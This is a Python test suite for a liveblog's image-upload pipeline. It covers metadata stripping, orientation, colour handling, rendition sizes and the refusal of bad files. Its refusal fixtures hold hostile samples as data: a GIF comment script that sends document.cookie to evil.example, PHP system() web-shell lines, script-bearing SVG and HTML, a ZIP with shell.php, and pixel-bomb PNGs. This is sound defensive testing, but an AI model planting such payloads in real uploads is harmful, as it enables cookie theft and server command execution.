"""Photo intake (media/intake.py, media/sniff.py): what an upload becomes, and every way one
is refused. Each picture here is a real file written by Pillow (or pillow-heif), or crafted
byte by byte where no encoder would write something that bad."""

from __future__ import annotations

import hashlib
import io
import random
import struct
from collections.abc import Callable
from pathlib import Path

import pillow_heif
import pytest
from PIL import ExifTags, Image, ImageCms, features

from liveblog.domain.errors import InvalidInput, TooLarge, UnsupportedMedia
from liveblog.media.intake import (
    KEY_PATTERN,
    MODERN_FORMAT,
    IntakeLimits,
    Processed,
    process_image,
    rendition_sizes,
)

from pictures import png_chunk, png_header, real_bomb_png

RED = (255, 0, 0)
BLUE = (40, 90, 220)
COMMENT = b"COM-SECRET-source-met-at-the-bridge"
XMP = (
    b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>'
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
    b'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
    b'xmlns:photoshop="http://ns.adobe.com/photoshop/1.0/" photoshop:City="XMP-SECRET-Kherson"/>'
    b'</rdf:RDF></x:xmpmeta><?xpacket end="w"?>'
)
DATUM = "GPS-SECRET-DATUM-7Q"
LATITUDE = (46.0, 38.0, 12.345)


def write(path: Path, image: Image.Image, fmt: str, **options: object) -> Path:
    image.save(path, fmt, **options)
    return path


def decoded(data: bytes) -> Image.Image:
    image = Image.open(io.BytesIO(data))
    image.load()
    return image


def colour_near(image: Image.Image, xy: tuple[int, int], want: tuple[int, int, int]) -> bool:
    got = image.convert("RGB").getpixel(xy)
    assert isinstance(got, tuple)
    return all(abs(a - b) <= 40 for a, b in zip(got, want, strict=True))


def marked(size: tuple[int, int]) -> Image.Image:
    """A blue picture with a red block in its top-left corner (as stored)."""
    image = Image.new("RGB", size, BLUE)
    image.paste(RED, (0, 0, size[0] // 5, size[1] // 5))
    return image


def secret_exif(orientation: int) -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.Base.Make] = "SecretCam"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = LATITUDE
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (32.0, 36.0, 54.321)
    gps[ExifTags.GPS.GPSMapDatum] = DATUM
    return exif


def latitude_bytes(path: Path) -> list[bytes]:
    """The latitude as the upload's EXIF stores it (three rationals), in either byte order."""
    with Image.open(path) as image:
        stored = image.getexif().get_ifd(ExifTags.IFD.GPSInfo)[ExifTags.GPS.GPSLatitude]
    assert [float(v) for v in stored] == list(LATITUDE)
    nums = [(v.numerator, v.denominator) for v in stored]
    return [b"".join(struct.pack(f"{order}II", n, d) for n, d in nums) for order in "<>"]


def secret_jpeg(path: Path, size: tuple[int, int] = (960, 540)) -> Path:
    return write(
        path, marked(size), "JPEG", exif=secret_exif(6), comment=COMMENT, xmp=XMP, quality=90
    )


def swapped_primaries_profile() -> bytes:
    """An ICC v2 RGB display profile whose red and blue primaries are sRGB's blue and red:
    a pixel stored as pure blue means red. No library writes such a profile, so it is built
    here from the ICC layout (header, tag table, tags)."""

    def s15(v: float) -> bytes:
        return struct.pack(">i", round(v * 65536))

    def xyz(x: float, y: float, z: float) -> bytes:
        return b"XYZ \0\0\0\0" + s15(x) + s15(y) + s15(z)

    name = b"Swapped primaries (test)\0"
    desc = b"desc\0\0\0\0" + struct.pack(">I", len(name)) + name + bytes(4 + 4 + 2 + 1 + 67)
    gamma = b"curv\0\0\0\0" + struct.pack(">IH", 1, 0x0233) + b"\0\0"  # gamma 2.2
    tags = [
        (b"desc", desc),
        (b"wtpt", xyz(0.9642, 1.0, 0.8249)),
        (b"rXYZ", xyz(0.1431, 0.0606, 0.7141)),  # sRGB's blue, adapted to D50
        (b"gXYZ", xyz(0.3851, 0.7169, 0.0971)),
        (b"bXYZ", xyz(0.4361, 0.2225, 0.0139)),  # sRGB's red
        (b"rTRC", gamma),
        (b"gTRC", gamma),
        (b"bTRC", gamma),
        (b"cprt", b"text\0\0\0\0no copyright\0"),
    ]
    offset = 128 + 4 + 12 * len(tags)
    table, body = b"", b""
    for sig, data in tags:
        data += bytes(-len(data) % 4)
        table += sig + struct.pack(">II", offset + len(body), len(data))
        body += data
    size = offset + len(body)
    header = (
        struct.pack(">I", size)
        + bytes(4)
        + b"\x02\x10\x00\x00mntrRGB XYZ "
        + bytes(12)
        + b"acsp"
        + bytes(24)
        + struct.pack(">I", 0)
        + s15(0.9642)
        + s15(1.0)
        + s15(0.8249)
        + bytes(48)
    )
    assert len(header) == 128
    return header + struct.pack(">I", len(tags)) + table + body


def fallbacks(result: Processed) -> list[str]:
    return [r.format for r in result.renditions if r.format != MODERN_FORMAT]


# --- what comes out ---------------------------------------------------------------------------


def test_no_metadata_survives_and_every_rendition_is_upright(tmp_path: Path) -> None:
    """A JPEG with GPS EXIF, a comment, XMP and orientation 6 comes out turned upright, and no
    rendition holds a byte of the GPS position, the comment or the XMP, nor any metadata that
    Pillow can read."""
    path = secret_jpeg(tmp_path / "field.jpg")
    original = path.read_bytes()
    # The upload really carries what must not leak (else this test could not fail).
    assert DATUM.encode() in original and COMMENT in original and b"XMP-SECRET" in original
    latitude = latitude_bytes(path)
    assert any(lat in original for lat in latitude)

    result = process_image(path)

    assert (result.width, result.height) == (540, 960)
    assert [(r.width, r.format) for r in result.renditions] == [
        (480, MODERN_FORMAT),
        (480, "jpeg"),
        (540, MODERN_FORMAT),
        (540, "jpeg"),
    ]
    for r in result.renditions:
        for secret in [DATUM.encode(), COMMENT, b"XMP-SECRET", b"SecretCam", *latitude]:
            assert secret not in r.data, (r.format, r.width, secret)
        image = decoded(r.data)
        assert image.size == (r.width, r.height) and r.height > r.width
        # The stored top-left corner is the upright top-right one.
        assert colour_near(image, (r.width - 5, 5), RED), r.format
        assert colour_near(image, (5, 5), BLUE), r.format
        assert len(image.getexif()) == 0
        assert not {"exif", "xmp", "comment", "icc_profile", "XML:com.adobe.xmp"} & set(image.info)


def test_a_large_rotated_jpeg_gives_full_width_upright_renditions(tmp_path: Path) -> None:
    """A JPEG stored 1000 x 3400 with orientation 6 (upright 3400 x 1000, so decoded at half
    scale) still gives a full 1600 px rendition, upright."""
    path = write(tmp_path / "wide.jpg", marked((1000, 3400)), "JPEG", exif=secret_exif(6))
    result = process_image(path)
    assert (result.width, result.height) == (3400, 1000)
    sizes = sorted({(r.width, r.height) for r in result.renditions})
    assert sizes == [(480, 141), (960, 282), (1600, 471)]
    widest = decoded(result.renditions[-1].data)
    assert colour_near(widest, (1595, 5), RED) and colour_near(widest, (5, 5), BLUE)


def test_reduced_decoding_never_loses_detail_a_rendition_needs(tmp_path: Path) -> None:
    """A JPEG stored 3400 x 1000 with orientation 6 is 1000 px wide upright: its 1000 px
    rendition keeps a 1-pixel line sharp (decoding it at a reduced scale, as the stored width
    would allow, would blur the line into grey)."""
    image = Image.new("RGB", (3400, 1000), (255, 255, 255))
    image.paste((0, 0, 0), (0, 500, 3400, 501))  # upright: a vertical line at x = 499
    path = write(tmp_path / "line.jpg", image, "JPEG", exif=secret_exif(6), quality=95)
    result = process_image(path)
    full = next(r for r in result.renditions if r.width == 1000 and r.format == "jpeg")
    grey = decoded(full.data).convert("L")
    values = [int(grey.getpixel((x, 1700)) or 0) for x in range(490, 510)]  # type: ignore[arg-type]
    assert min(values) < 60 and values[494 - 490] > 200, values


def test_png_with_transparency_keeps_it_with_a_png_fallback(tmp_path: Path) -> None:
    """A PNG with see-through pixels gets a modern rendition with alpha and a PNG (not JPEG)
    fallback, both still transparent where the upload was."""
    image = Image.new("RGBA", (200, 100), (200, 30, 30, 255))
    image.paste((0, 0, 0, 0), (0, 0, 100, 100))
    result = process_image(write(tmp_path / "logo.png", image, "PNG"))
    assert result.source_format == "png" and result.has_alpha
    assert fallbacks(result) == ["png"]
    for r in result.renditions:
        out = decoded(r.data)
        assert out.mode == "RGBA"
        assert out.getpixel((10, 50))[3] < 10 and out.getpixel((190, 50))[3] > 245  # type: ignore[index]


def test_opaque_alpha_channel_gets_a_jpeg_fallback(tmp_path: Path) -> None:
    """An RGBA PNG whose pixels are all opaque is treated as opaque: JPEG fallback."""
    image = Image.new("RGBA", (120, 80), (10, 200, 10, 255))
    result = process_image(write(tmp_path / "opaque.png", image, "PNG"))
    assert not result.has_alpha and fallbacks(result) == ["jpeg"]


def test_animated_gif_gives_its_first_frame(tmp_path: Path) -> None:
    """An animated GIF becomes a still of its first frame."""
    frames = [Image.new("RGB", (80, 60), colour) for colour in (RED, (0, 200, 0), (0, 0, 200))]
    path = tmp_path / "anim.gif"
    frames[0].save(path, "GIF", save_all=True, append_images=frames[1:], duration=100, loop=0)
    result = process_image(path)
    assert result.source_format == "gif" and (result.width, result.height) == (80, 60)
    for r in result.renditions:
        assert colour_near(decoded(r.data), (40, 30), RED)


def test_gif_transparency_is_kept(tmp_path: Path) -> None:
    """A GIF with a transparent palette entry counts as transparent (PNG fallback)."""
    image = Image.new("P", (60, 40), 1)
    image.putpalette([0, 0, 0, 250, 10, 10] + [0] * 762)
    image.paste(0, (0, 0, 30, 40))
    result = process_image(write(tmp_path / "t.gif", image, "GIF", transparency=0))
    assert result.has_alpha and fallbacks(result) == ["png"]


def test_png_colour_key_transparency_is_kept(tmp_path: Path) -> None:
    """An RGB PNG whose transparency is one colour (a tRNS key) counts as transparent."""
    image = Image.new("RGB", (60, 40), (9, 9, 9))
    image.paste(RED, (30, 0, 60, 40))
    result = process_image(write(tmp_path / "key.png", image, "PNG", transparency=(9, 9, 9)))
    assert result.has_alpha and fallbacks(result) == ["png"]
    out = decoded(result.renditions[1].data)
    assert out.getpixel((5, 5))[3] == 0 and out.getpixel((50, 5)) == (*RED, 255)  # type: ignore[index]


@pytest.mark.parametrize("fmt", ["webp", "heic", "avif", "png", "jpeg"])
def test_each_format_is_accepted_by_its_content(tmp_path: Path, fmt: str) -> None:
    """WebP, HEIC, AVIF, PNG and JPEG uploads are recognised by their bytes (every file here
    is named .bin) and give a modern rendition and a JPEG fallback with the picture's colours."""
    pillow_heif.register_heif_opener()
    plugin = {"heic": "HEIF"}.get(fmt, fmt.upper())
    path = write(tmp_path / "upload.bin", marked((160, 120)), plugin)
    result = process_image(path)
    assert result.source_format == fmt and (result.width, result.height) == (160, 120)
    assert [r.format for r in result.renditions] == [MODERN_FORMAT, "jpeg"]
    for r in result.renditions:
        out = decoded(r.data)
        assert out.format.lower() == r.format and out.mode == "RGB"  # type: ignore[union-attr]
        assert colour_near(out, (5, 5), RED) and colour_near(out, (150, 110), BLUE)


def test_heic_orientation_is_applied_once(tmp_path: Path) -> None:
    """A HEIC photo with orientation 6 comes out upright, neither unturned nor turned twice."""
    pillow_heif.register_heif_opener()
    # As a phone writes it: pillow-heif turns EXIF's orientation into the HEIF rotation box.
    exif = secret_exif(6).tobytes()
    path = write(tmp_path / "phone.heic", marked((160, 120)), "HEIF", exif=exif)
    result = process_image(path)
    assert (result.width, result.height) == (120, 160)
    out = decoded(result.renditions[0].data)
    assert colour_near(out, (115, 5), RED) and colour_near(out, (5, 5), BLUE)


def test_cmyk_jpeg_comes_out_rgb(tmp_path: Path) -> None:
    """A CMYK JPEG (as print desks send) becomes RGB with its colours: full magenta and yellow
    is red."""
    image = Image.new("CMYK", (100, 80), (0, 255, 255, 0))
    result = process_image(write(tmp_path / "print.jpg", image, "JPEG"))
    for r in result.renditions:
        out = decoded(r.data)
        assert out.mode == "RGB" and colour_near(out, (50, 40), RED)


def test_embedded_colour_profile_is_converted_to_srgb(tmp_path: Path) -> None:
    """Colours are read through the upload's own ICC profile and written as sRGB, with no
    profile attached: under a profile that swaps the primaries, stored blue is red."""
    profile = swapped_primaries_profile()
    ImageCms.ImageCmsProfile(io.BytesIO(profile))  # lcms accepts it
    image = Image.new("RGB", (100, 80), (0, 0, 255))
    result = process_image(write(tmp_path / "wide-gamut.jpg", image, "JPEG", icc_profile=profile))
    for r in result.renditions:
        out = decoded(r.data)
        assert "icc_profile" not in out.info
        assert out.mode == "RGB" and colour_near(out, (50, 40), RED), out.getpixel((50, 40))


def test_sixteen_bit_grey_keeps_its_tone(tmp_path: Path) -> None:
    """A 16-bit greyscale PNG at half brightness stays mid-grey (not clipped to white)."""
    image = Image.new("I;16", (64, 64), 32768)
    result = process_image(write(tmp_path / "scan.png", image, "PNG"))
    assert colour_near(decoded(result.renditions[1].data), (32, 32), (128, 128, 128))


def test_camera_trailer_and_binary_look_alikes_are_not_refused(tmp_path: Path) -> None:
    """Bytes after the image (a phone's trailer) are accepted, and so are marker look-alikes
    in binary data that no browser would read as markup ("<svg" between control bytes)."""
    path = write(tmp_path / "phone.jpg", marked((120, 90)), "JPEG")
    rnd = random.Random(7)
    trailer = rnd.randbytes(50_000) + b"\x00\x9f<svg\x01\xfe" + b"SEFH\x00\x00\x00\x01"
    path.write_bytes(path.read_bytes() + trailer)
    assert process_image(path).width == 120


@pytest.mark.parametrize("marker", [b"<script src=//x.example>", b"<?php system($_GET[0]); ?>"])
@pytest.mark.parametrize("shift", [-20, -3, 0, 2])
def test_markup_is_found_across_the_scanners_pieces(
    tmp_path: Path, marker: bytes, shift: int
) -> None:
    """The scan reads 1 MiB at a time; markup across or beside a boundary is still found."""
    head = jpeg_bytes()
    filler = random.Random(3).randbytes((1 << 20) + shift - len(head))
    filler = filler.replace(b"<", b"(")  # no chance markers of its own
    path = tmp_path / "p.jpg"
    path.write_bytes(head + filler + marker + random.Random(4).randbytes(5000).replace(b"<", b"("))
    with pytest.raises(UnsupportedMedia, match=f"at byte {(1 << 20) + shift:,}"):
        process_image(path)


def test_renditions_are_never_upscaled(tmp_path: Path) -> None:
    """A 700 px picture gets 480 and 700, a 300 px one only 300, a 2000 px one the three
    standard widths; heights keep the aspect ratio."""
    assert rendition_sizes(700, 350) == [(480, 240), (700, 350)]
    assert rendition_sizes(300, 200) == [(300, 200)]
    assert rendition_sizes(2000, 1000) == [(480, 240), (960, 480), (1600, 800)]
    assert rendition_sizes(1600, 900) == [(480, 270), (960, 540), (1600, 900)]
    result = process_image(write(tmp_path / "small.png", marked((700, 350)), "PNG"))
    assert sorted({(r.width, r.height) for r in result.renditions}) == [(480, 240), (700, 350)]


def test_very_tall_pictures_get_renditions_a_browser_can_show() -> None:
    """A 1:20 strip gets no rendition taller than 16,383 px (narrower ones instead)."""
    assert rendition_sizes(1500, 30_000) == [(480, 9600), (819, 16383)]


def test_keys_are_content_addresses_and_key_pattern_refuses_paths(tmp_path: Path) -> None:
    """Each key is the sha256 of the rendition's bytes plus its extension; KEY_PATTERN takes
    every key and refuses anything that could name another path."""
    result = process_image(write(tmp_path / "a.png", marked((100, 80)), "PNG"))
    for r in result.renditions:
        ext = {"jpeg": "jpg"}.get(r.format, r.format)
        assert r.key == f"{hashlib.sha256(r.data).hexdigest()}.{ext}"
        assert r.media_type == f"image/{r.format}"
        assert KEY_PATTERN.fullmatch(r.key) and KEY_PATTERN.match(r.key)
    good = "a" * 64 + ".jpg"
    for bad in ["../x.jpg", good + "/../x", good + "\n", "A" * 64 + ".jpg", "a" * 64 + ".svg"]:
        assert not KEY_PATTERN.match(bad) and not KEY_PATTERN.search(bad), bad


# --- what is refused --------------------------------------------------------------------------


def jpeg_bytes(size: tuple[int, int] = (200, 150)) -> bytes:
    buf = io.BytesIO()
    marked(size).save(buf, "JPEG", quality=90)
    return buf.getvalue()


def gif_with_script() -> bytes:
    buf = io.BytesIO()
    Image.new("P", (40, 40), 1).save(
        buf, "GIF", comment=b"*/=1;<script>fetch('//evil.example/'+document.cookie)</script>"
    )
    return buf.getvalue()


def svg_with_script() -> bytes:
    return (
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" '
        b'height="10"><script>alert(document.domain)</script></svg>'
    )


def zip_archive() -> bytes:
    import zipfile

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("shell.php", "<?= 1 ?>" * 10)
    return buf.getvalue()


Refusal = tuple[Callable[[], bytes], type[Exception], str]
REFUSALS: dict[str, Refusal] = {
    "empty": (lambda: b"", InvalidInput, "file: is empty"),
    "bomb header 100,000 x 100,000": (
        lambda: png_header(100_000, 100_000),
        TooLarge,
        "10,000,000,000 pixels; the limit is 50,000,000",
    ),
    "real bomb 10,000 x 8,000 in a few KB": (
        lambda: real_bomb_png(10_000, 8_000),
        TooLarge,
        "80,000,000 pixels; the limit is 50,000,000",
    ),
    "truncated JPEG": (
        lambda: jpeg_bytes()[: len(jpeg_bytes()) * 2 // 3],
        InvalidInput,
        "is a JPEG image that is truncated or damaged",
    ),
    "garbage after a JPEG header": (
        lambda: jpeg_bytes()[:200] + bytes(300),
        InvalidInput,
        "truncated or damaged",
    ),
    "JPEG + appended HTML": (
        lambda: jpeg_bytes() + b"<html><body><script>alert(document.cookie)</script></body></html>",
        UnsupportedMedia,
        "is a JPEG image that also carries an HTML document ('<html') at byte",
    ),
    "JPEG with PHP in its comment": (
        lambda: _jpeg_with_comment(b"<?php system($_GET['c']); ?>"),
        UnsupportedMedia,
        "PHP code ('<?php')",
    ),
    "JPEG + ZIP archive": (
        lambda: jpeg_bytes() + zip_archive(),
        UnsupportedMedia,
        "a ZIP archive",
    ),
    "GIF carrying script": (
        gif_with_script,
        UnsupportedMedia,
        "is a GIF image that also carries a script",
    ),
    "SVG with script": (svg_with_script, UnsupportedMedia, "file: is an SVG image; upload JPEG"),
    "HTML named .jpg": (
        lambda: b"<!DOCTYPE html><html><body><p>hello</p></body></html>",
        UnsupportedMedia,
        "file: is an HTML document; upload JPEG, PNG, WebP, GIF, HEIC or AVIF",
    ),
    "PDF": (lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", UnsupportedMedia, "a PDF document"),
    "unknown bytes": (lambda: bytes(range(256)), UnsupportedMedia, "a file of unknown type"),
    "0 x 0 PNG": (
        lambda: png_header(0, 0) + png_chunk(b"IEND", b""),
        InvalidInput,
        "is 0 x 0 pixels",
    ),
    "0 x 0 GIF": (lambda: b"GIF89a\0\0\0\0\0\0\0;", InvalidInput, "is 0 x 0 pixels"),
    "100,000 x 1": (
        lambda: _png(Image.new("L", (100_000, 1))),
        InvalidInput,
        "the long side may be at most 20 times the short one",
    ),
    "8 x 8 icon": (lambda: _png(Image.new("RGB", (8, 8))), InvalidInput, "at least 16"),
}


def _png(image: Image.Image) -> bytes:
    buf = io.BytesIO()
    image.save(buf, "PNG")
    return buf.getvalue()


def _jpeg_with_comment(comment: bytes) -> bytes:
    buf = io.BytesIO()
    marked((100, 80)).save(buf, "JPEG", comment=comment)
    return buf.getvalue()


@pytest.mark.parametrize("case", list(REFUSALS))
def test_refusals_name_the_problem(tmp_path: Path, case: str) -> None:
    """Each bad upload raises its domain error with a message naming the problem; the file is
    named photo.jpg every time, which changes nothing."""
    make, error, message = REFUSALS[case]
    path = tmp_path / "photo.jpg"
    path.write_bytes(make())
    with pytest.raises(error) as caught:
        process_image(path)
    assert type(caught.value) is error
    assert message in str(caught.value)


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "GIF", "WEBP", "HEIF", "AVIF"])
def test_damaged_files_only_ever_raise_domain_errors(tmp_path: Path, fmt: str) -> None:
    """Truncated or bit-flipped files of every format end as a domain error (or a picture, when
    the damage is harmless), never as Pillow's or pillow-heif's own exception, and no message
    shows the server's file path."""
    pillow_heif.register_heif_opener()
    buf = io.BytesIO()
    marked((120, 90)).save(buf, fmt)
    good = buf.getvalue()
    rnd = random.Random(fmt)
    path = tmp_path / "upload"
    outcomes = set()
    for i in range(30):
        data = bytearray(good)
        if i % 2:
            data = data[: rnd.randrange(1, len(data))]
        else:
            for _ in range(rnd.randrange(1, 8)):
                data[rnd.randrange(len(data))] = rnd.randrange(256)
        path.write_bytes(bytes(data))
        try:
            process_image(path)
            outcomes.add("ok")
        except (InvalidInput, TooLarge) as exc:
            assert str(tmp_path) not in str(exc) and "<_io" not in str(exc), exc
            outcomes.add(type(exc).__name__)
    assert "InvalidInput" in outcomes


def test_over_the_byte_limit_is_too_large(tmp_path: Path) -> None:
    """A file over max_bytes is refused by its size, naming the size and the limit."""
    path = tmp_path / "big.jpg"
    path.write_bytes(jpeg_bytes())
    with pytest.raises(TooLarge, match=r"file: is 0\.0 MiB \([\d,]+ bytes\); the limit is") as e:
        process_image(path, IntakeLimits(max_bytes=1000))
    assert e.value.field == "file"


def test_max_pixels_is_the_configured_limit(tmp_path: Path) -> None:
    """A real 2000 x 1000 PNG is refused under a 1,000,000-pixel limit and taken without it."""
    path = write(tmp_path / "p.png", marked((2000, 1000)), "PNG")
    with pytest.raises(TooLarge, match="2,000,000 pixels; the limit is 1,000,000"):
        process_image(path, IntakeLimits(max_pixels=1_000_000))
    assert process_image(path).width == 2000


# --- the libraries, as we rely on them ----------------------------------------------------------


def test_pillow_and_pillow_heif_still_do_what_intake_relies_on(tmp_path: Path) -> None:
    """Contract: the encoders exist; pillow-heif decodes HEIC and applies its rotation itself
    (resetting EXIF's orientation); Pillow's AVIF reader reports rotation as EXIF orientation;
    JPEG draft decodes at a power-of-two fraction; `formats=` keeps Pillow from guessing; a
    truncated JPEG raises OSError on load; Pillow's encoders copy metadata from `info` (why
    intake empties it)."""
    for feature in ("avif", "webp", "jpg", "zlib", "littlecms2"):
        assert features.check(feature), feature

    pillow_heif.register_heif_opener()
    heic = write(tmp_path / "c.heic", marked((64, 48)), "HEIF", exif=secret_exif(6).tobytes())
    with Image.open(heic) as image:
        assert image.format == "HEIF" and image.size == (48, 64)
        assert image.getexif().get(ExifTags.Base.Orientation, 1) == 1

    avif = write(tmp_path / "c.avif", marked((64, 48)), "AVIF", exif=secret_exif(6))
    with Image.open(avif) as image:
        assert image.size == (64, 48) and image.getexif()[ExifTags.Base.Orientation] == 6

    jpeg = tmp_path / "c.jpg"
    jpeg.write_bytes(jpeg_bytes((400, 300)))
    with Image.open(jpeg) as image:
        image.draft("RGB", (190, 1))
        image.load()
        assert image.size == (200, 150)
    with pytest.raises(Image.UnidentifiedImageError):
        Image.open(jpeg, formats=["PNG"])

    whole = jpeg_bytes()
    jpeg.write_bytes(whole[: len(whole) - 20])
    with Image.open(jpeg) as image, pytest.raises(OSError):
        image.load()

    commented = Image.open(io.BytesIO(_jpeg_with_comment(b"KEEP-ME")))
    commented.load()
    buf = io.BytesIO()
    commented.convert("RGB").save(buf, "JPEG")
    assert b"KEEP-ME" in buf.getvalue()
